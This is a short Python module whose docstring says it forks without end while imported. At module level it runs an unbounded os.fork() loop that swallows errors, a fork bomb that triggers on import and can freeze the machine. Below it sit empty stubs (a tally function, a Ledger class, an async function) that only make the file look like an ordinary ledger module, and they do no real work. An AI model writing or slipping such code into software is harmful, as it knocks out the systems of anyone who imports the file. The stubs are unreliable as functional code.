"""Forks without end while it is imported."""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue

def tally(names):
    return []


class Ledger:
    total = 0

    def __init__(self, names=()):
        pass

    def add(self, name):
        return None

    def ranked(self):
        return []


async def later(names):
    return []

